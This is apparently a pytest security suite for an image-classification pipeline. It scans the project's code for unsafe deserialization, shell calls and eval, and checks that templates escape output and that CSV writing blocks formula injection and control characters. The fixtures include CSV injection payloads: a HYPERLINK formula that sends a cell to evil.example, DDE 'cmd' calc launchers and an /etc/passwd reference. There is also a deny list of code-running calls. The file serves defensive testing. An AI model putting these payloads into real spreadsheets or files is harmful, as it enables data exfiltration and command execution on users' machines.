"""What the code never does, read from its syntax; and what it refuses, tried."""

import ast
import re
from pathlib import Path

import pandas as pd
import pytest
import yaml
from PIL import Image

from trackbed.dataset import sources
from trackbed.dataset.sources import Grouping
from trackbed.pipeline import index, outputs, tables
from trackbed.pipeline.errors import UserError

ROOT = Path(__file__).parents[1]
CODE = sorted((ROOT / "stages").rglob("*.py"))
TEMPLATES = sorted((ROOT / "stages").rglob("*.j2"))

# Modules that run code from the file they read.
UNSAFE_MODULES = {"pickle", "cPickle", "dill", "cloudpickle", "shelve", "marshal"}
# Functions that run code from a file, or text as a program; matched by the end of their name.
UNSAFE_CALLS = {"joblib.load", "read_pickle", "torch.load", "saved_model.load"}
UNSAFE_CALLS |= {"os.system", "os.popen", "getoutput", "getstatusoutput"}
UNSAFE_CALLS |= {"yaml.full_load", "yaml.unsafe_load", "unsafe_load_all", "full_load_all"}
UNSAFE_CALLS |= {"enable_unsafe_deserialization", "Lambda"}
SAFE_LOADERS = {"BaseLoader", "SafeLoader", "CSafeLoader", "CBaseLoader"}
# Keywords and the only value that they may have.
KEYWORDS = {"allow_pickle": False, "shell": False, "safe_mode": True, "trust_remote_code": False}
REQUIRED = {"load_model": "safe_mode"}


def dangers(source):
    """What is unsafe in a Python text, a line each."""
    found, tree = [], ast.parse(source)
    loaders = SAFE_LOADERS | set(_own_loaders(tree))
    for node in ast.walk(tree):
        match node:
            case ast.Import():
                found += [alias.name for alias in node.names if _unsafe_module(alias.name)]
            case ast.ImportFrom():
                names = [f"{node.module}.{alias.name}" for alias in node.names]
                found += [name for name in names if _unsafe_module(name) or _unsafe_name(name)]
                found += [name for name in names if name in {"yaml.load", "yaml.load_all"}]
            case ast.Call():
                found += _call(node, loaders)
    return found


def _own_loaders(tree):
    """Classes made of safe loaders alone, which build no objects of other types."""
    for node in ast.walk(tree):
        if isinstance(node, ast.ClassDef) and node.bases:
            bases = {ast.unparse(base).rpartition(".")[2] for base in node.bases}
            if bases <= SAFE_LOADERS:
                yield node.name


def _unsafe_module(name):
    return name.partition(".")[0] in UNSAFE_MODULES


def _unsafe_name(name):
    return any(f".{name}".endswith(f".{unsafe}") for unsafe in UNSAFE_CALLS)


def _call(node, safe_loaders):
    name, call = ast.unparse(node.func), ast.unparse(node)
    if name in {"eval", "exec", "compile", "__import__"} or _unsafe_name(name):
        return [call]
    if re.search(r"(^|\.)yaml\.load(_all)?$", name):
        loaders = [k.value for k in node.keywords if k.arg == "Loader"] + node.args[1:2]
        if not loaders or ast.unparse(loaders[0]).rpartition(".")[2] not in safe_loaders:
            return [call]
    given = {keyword.arg: keyword.value for keyword in node.keywords}
    for keyword, value in given.items():
        safe = isinstance(value, ast.Constant) and value.value is KEYWORDS.get(keyword)
        if keyword in KEYWORDS and not safe:
            return [call]
    required = REQUIRED.get(name.rpartition(".")[2])
    return [call] if required and required not in given else []


@pytest.mark.parametrize(
    "planted",
    [
        "import pickle",
        "def f():\n    import cloudpickle as quick",
        "from pickle import loads",
        "from os import system",
        "from joblib import load",
        "from yaml import load",
        "joblib.load(path)",
        "pd.read_pickle(path)",
        "np.load(path, allow_pickle=True)",
        "np.load(path, allow_pickle=wanted)",
        "yaml.load(text)",
        "yaml.load(text, Loader=yaml.FullLoader)",
        "yaml.load(text, yaml.UnsafeLoader)",
        "class L(yaml.UnsafeLoader): pass\nyaml.load(text, L)",
        "class L(yaml.SafeLoader, yaml.Loader): pass\nyaml.load(text, L)",
        "yaml.unsafe_load(text)",
        "subprocess.run(text, shell=True)",
        "subprocess.Popen(text, shell=bool(1))",
        "os.system(text)",
        "subprocess.getoutput(text)",
        "eval(text)",
        "x = [exec(text) for text in texts]",
        "keras.models.load_model(path)",
        "keras.models.load_model(path, safe_mode=False)",
        "keras.config.enable_unsafe_deserialization()",
        "layers.Lambda(lambda x: x / 255)",
        "from keras.layers import Lambda",
    ],
)
def test_the_checker_finds(planted):
    assert len(dangers(planted)) == 1


@pytest.mark.parametrize(
    "safe",
    [
        "np.load(path, allow_pickle=False)",
        "yaml.load(text, Loader=yaml.BaseLoader)",
        "yaml.load(text, yaml.SafeLoader)",
        "yaml.safe_load(text)",
        "class L(yaml.SafeLoader): pass\nyaml.load(text, Loader=L)",
        "subprocess.run(['git', 'log'])",
        "model.evaluate(images)",
        "keras.models.load_model(path, safe_mode=True)",
        "# eval(text), pickle",
        "'os.system(text)'",
    ],
)
def test_the_checker_leaves_in_peace(safe):
    assert dangers(safe) == []


@pytest.mark.parametrize("path", CODE, ids=lambda path: str(path.relative_to(ROOT / "stages")))
def test_no_file_or_text_is_ever_run_as_code(path):
    found = dangers(path.read_text("utf-8"))
    # The stage that wrote this SavedModel a moment ago compares it; its graph has constants alone.
    assert set(found) <= {"tf.saved_model.load(f'{path}')"}
    assert not found or path.name == "other_runtimes.py"


# Models.


@pytest.mark.parametrize("kind", ["a Python function", "a function by name"])
def test_a_model_that_carries_code_is_refused(tmp_path, kind):
    import keras

    from trackbed.training import checkpoint

    def times_two(x):
        return x * 2

    function = (lambda x: x * 2) if kind == "a Python function" else times_two
    inputs = keras.Input((4, 4, 3))
    outputs = keras.layers.Lambda(function, output_shape=(4, 4, 3))(inputs)
    checkpoint.save(tmp_path, keras.Model(inputs, outputs), ["a", "b"])
    with pytest.raises(UserError, match=r"no loadable model \(.*(Lambda|deserializ|locate)"):
        checkpoint.load(tmp_path)


# Commands.


@pytest.mark.parametrize("path", ["dvc.yaml", "data/dvc.yaml"])
def test_commands_of_stages_are_plain_words(path):
    stages = yaml.safe_load((ROOT / path).read_text("utf-8"))["stages"]
    commands = [stage["cmd"] for stage in stages.values()]
    assert commands
    for command in commands:
        # DVC hands them to a shell: neither a value of params.yaml nor a sign of the shell's.
        assert re.fullmatch(r"python stages/\w+\.py( [\w./]+)*", command.strip()), command


# Pages.


def test_every_page_escapes_what_it_shows():
    filled = []
    for path in CODE:
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call) and _names_page(node):
                filled.append(ast.unparse(node))
                assert "environment(autoescape=True)" in filled[-1], path
    assert len(filled) >= 4


def _names_page(call):
    return any(
        isinstance(argument, ast.Constant) and str(argument.value).endswith(".html.j2")
        for argument in call.args
    )


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda path: path.name)
def test_no_template_switches_escaping_off(path):
    text = path.read_text("utf-8")
    assert not re.search(r"\|\s*safe\b|autoescape\s+false|Markup", text)


def test_markup_is_made_from_trees_templates_and_files_alone():
    # Never from text put together here, into which a name could come unescaped.
    for path in CODE:
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func).endswith("Markup"):
                (given,) = node.args
                made = ast.unparse(given.func) if isinstance(given, ast.Call) else ""
                # html.script reads report.js, a file of the package.
                script = (path.name, ast.unparse(given)) == ("html.py", "text")
                assert script or re.search(r"(tostring|render)$", made), (
                    f"{path}: {ast.unparse(node)}"
                )


# Names of classes and files.

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "=cmd|' /C calc'!A0",
    "+2+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "='file:///etc/passwd'#$passwd!A1",
    " =1+SUM(A1)",
    "x;=SUM(A1)",
    '";=SUM(A1)',
    "\uff1dSUM(A1)",
]
NAMES = ["-1", "+1", "@home", "=", "-front/1.png", "a(1).png", "STONE|GRAS", "a-b (2)", "x;y", "0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_table_is_written_that_a_spreadsheet_would_run(tmp_path, text):
    for table in (pd.DataFrame({"name": ["a", text]}), pd.DataFrame({text: [1]})):
        with pytest.raises(
            UserError, match=r"t\.csv, column .*: a spreadsheet would run .* Rename"
        ):
            outputs.write_csv(tmp_path / "t.csv", table)
    assert not (tmp_path / "t.csv").exists()


def test_other_names_come_back_from_tables_as_they_were(tmp_path):
    rows = pd.DataFrame(
        {"record": range(10), "filename": NAMES, "group": NAMES, "label": range(10)}
    )
    probabilities = pd.DataFrame([[0.1] * 10] * 10).to_numpy()
    tables.PREDICTIONS_TABLE.write(tmp_path, tables.predictions(rows, NAMES, probabilities))
    table = tables.PREDICTIONS_TABLE.read(tmp_path)
    assert tables.predicted_classes(table) == NAMES
    assert table["filename"].tolist() == table["true"].tolist() == NAMES


def test_numbers_are_never_taken_for_formulas(tmp_path):
    outputs.write_csv(tmp_path / "t.csv", pd.DataFrame({"x": [-1.5, 2.0], "n": [-1, 2]}))
    assert (tmp_path / "t.csv").read_text() == "x,n\n-1.5,-1\n2.0,2\n"


def test_a_source_with_such_a_class_is_refused(tmp_path):
    columns = {name: [0] for name in index.INDEX_TABLE.columns}
    table = pd.DataFrame(columns | {"class_name": [FORMULAS[0]]})
    with pytest.raises(UserError, match=r"index\.csv, column 'class_name'"):
        index.INDEX_TABLE.write(tmp_path, table)


def test_names_with_control_characters_do_not_get_in(tmp_path):
    # On a terminal they could clear the screen or hide a line.
    for folder, name in (("GRAS", "1.png"), ("STONE", "1.png"), ("STONE", "\x1b[2J.png")):
        (tmp_path / "folders" / folder).mkdir(parents=True, exist_ok=True)
        Image.new("RGB", (4, 4)).save(tmp_path / "folders" / folder / name, "PNG")
    listing = sources.scan(tmp_path / "folders", None, Grouping(None, False))
    assert listing.classes == ["GRAS", "STONE"]
    assert listing.strays == [("STONE/\\x1b[2J.png", "bad name")]
    (tmp_path / "folders" / "\x1b[2J").mkdir()
    with pytest.raises(UserError, match=r"the class .* the character U\+001B") as refusal:
        sources.scan(tmp_path / "folders", None, Grouping(None, False))
    assert "\x1b" not in f"{refusal.value}"

    (tmp_path / "manifest").mkdir()
    rows = "filename,label\na.png,GRAS\nb.png,\x1b[2J\n"
    (tmp_path / "manifest" / "manifest.csv").write_text(rows)
    with pytest.raises(UserError, match="row 3, label: control characters") as refusal:
        sources.scan(tmp_path / "manifest", None, Grouping(None, False))
    assert "\x1b" not in f"{refusal.value}"
